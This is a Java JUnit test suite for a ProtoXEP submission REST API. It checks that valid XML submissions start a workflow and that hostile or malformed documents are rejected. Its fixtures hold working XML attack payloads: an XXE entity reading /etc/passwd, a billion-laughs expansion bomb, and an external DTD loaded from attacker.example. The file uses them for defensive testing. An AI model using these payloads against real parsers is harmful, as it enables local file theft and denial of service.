package org.xsf.xepflow.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.util.LinkedMultiValueMap;
import org.xsf.xepflow.registry.ProtoXepRepository;
import org.xsf.xepflow.support.ProcessTestSupport;

/** "ProtoXEP submitted" through the REST API, and what it refuses. */
@ExtendWith(OutputCaptureExtension.class)
class ProtoXepSubmissionApiTest extends ProcessTestSupport {
  private static final String XXE = """
      <?xml version='1.0'?>
      <!DOCTYPE xep [<!ENTITY secret SYSTEM 'file:///etc/passwd'>]>
      <xep><header><title>&secret;</title></header></xep>
      """;
  private static final String BILLION_LAUGHS = """
      <?xml version='1.0'?>
      <!DOCTYPE xep [
        <!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
        <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
        <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
        <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
        <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;"><!ENTITY j "&i;&i;&i;&i;&i;&i;&i;&i;&i;&i;">
      ]>
      <xep><header><title>&j;</title></header></xep>
      """;
  private static final String EXTERNAL_DTD = """
      <?xml version='1.0'?>
      <!DOCTYPE xep SYSTEM 'http://attacker.example/evil.dtd'>
      <xep/>
      """;
  private static final String NOT_A_XEP = "<html><body>Hello</body></html>";

  @Autowired
  TestRestTemplate http;
  @Autowired
  RuntimeService runtimeService;
  @Autowired
  HistoryService historyService;
  @Autowired
  ProtoXepRepository protoXeps;

  @Test
  void anAuthorSubmitsTheXmlAsRequestBody() {
    ResponseEntity<Map> response = post("author1", fixture("inbox/instant-gaming.xml"));

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.CREATED);
    assertThat(response.getBody()).containsEntry("title", "Instant Gaming").containsEntry("author", "author1");
    String processInstanceId = (String) response.getBody().get("processInstanceId");
    assertThat(runtimeService.getVariable(processInstanceId, "author")).isEqualTo("author1");
    assertThat(processEngine.getTaskService().createTaskQuery().processInstanceId(processInstanceId)
        .taskDefinitionKey("Task_EditorFormatReview").count()).isEqualTo(1);
  }

  @Test
  void anAuthorUploadsTheXmlAsAFile() {
    var body = new LinkedMultiValueMap<String, Object>();
    body.add("file", new ByteArrayResource(fixture("inbox/pubsub-uri.xml").getBytes()) {
      @Override
      public String getFilename() {
        return "pubsub-uri.xml";
      }
    });
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.MULTIPART_FORM_DATA);
    ResponseEntity<Map> response = http.withBasicAuth("author2", "xsf")
        .postForEntity("/api/protoxeps", new HttpEntity<>(body, headers), Map.class);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.CREATED);
    assertThat(response.getBody()).containsEntry("title", "The 'xmpp.pubsub' URI Scheme");
  }

  @Test
  void submittingNeedsALogin() {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_XML);
    ResponseEntity<String> response = http.postForEntity("/api/protoxeps",
        new HttpEntity<>(fixture("inbox/mix.xml"), headers), String.class);
    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.UNAUTHORIZED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"xxe", "billion-laughs", "external-dtd", "not-a-xep", "oversized", "empty", "no-title",
      "title-too-long", "abstract-too-long", "approver-too-long"})
  void hostileOrBrokenDocumentsAreRefusedAndLeaveNothingBehind(String kind) {
    String mix = fixture("inbox/mix.xml");
    String document = switch (kind) {
      case "no-title" -> mix.replace("<title>Mediated Information eXchange (MIX)</title>", "");
      // longer than the XEPs database keeps: refused before anything is stored, not a server error
      case "title-too-long" -> mix.replace("Mediated Information eXchange (MIX)</title>", "t".repeat(501) + "</title>");
      case "abstract-too-long" -> mix.replaceFirst("(?s)<abstract>.*?</abstract>", "<abstract>" + "a".repeat(5000) + "</abstract>");
      case "approver-too-long" -> mix.replace("<approver>Council</approver>", "<approver>XSF Board of Directors</approver>");
      case "xxe" -> XXE;
      case "billion-laughs" -> BILLION_LAUGHS;
      case "external-dtd" -> EXTERNAL_DTD;
      case "not-a-xep" -> NOT_A_XEP;
      case "oversized" -> mix + "<!--" + "x".repeat(5 * 1024 * 1024) + "-->";
      default -> " ";
    };
    long instances = historyService.createHistoricProcessInstanceQuery().count();
    long rows = protoXeps.count();

    ResponseEntity<Map> response = post("author1", document);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(response.getHeaders().getContentType().toString()).startsWith("application/problem+json");
    assertThat((String) response.getBody().get("detail")).isNotBlank().doesNotContain("root:");
    if (kind.endsWith("too-long")) {
      assertThat((String) response.getBody().get("detail")).startsWith("The <" + kind.substring(0, kind.indexOf('-')) + ">: ")
          .contains("the XEPs database keeps at most");
    }
    assertThat(historyService.createHistoricProcessInstanceQuery().count()).isEqualTo(instances);
    assertThat(protoXeps.count()).isEqualTo(rows);
  }

  @Test
  void tasklistStartFormRefusesAHostileDocumentAsABadRequest(CapturedOutput log) {
    long instances = historyService.createHistoricProcessInstanceQuery().count();
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_JSON);
    Map<String, Object> form = Map.of("variables", Map.of("xml", Map.of("value", XXE, "type", "String")));

    ResponseEntity<Map> response = http.withBasicAuth("author2", "xsf").postForEntity(
        "/engine-rest/process-definition/key/protoxep-submission/submit-form", new HttpEntity<>(form, headers), Map.class);

    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat((String) response.getBody().get("message")).contains("file:///etc/passwd").doesNotContain("root:");
    assertThat(historyService.createHistoricProcessInstanceQuery().count()).isEqualTo(instances);
    // the user's error, not the server's: no error with its stack in the operators' log
    assertThat(log.getAll()).doesNotContain("ENGINE-16004").doesNotContain("DocumentRejectedException");
  }

  private ResponseEntity<Map> post(String user, String xml) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_XML);
    return http.withBasicAuth(user, "xsf").postForEntity("/api/protoxeps", new HttpEntity<>(xml, headers), Map.class);
  }
}
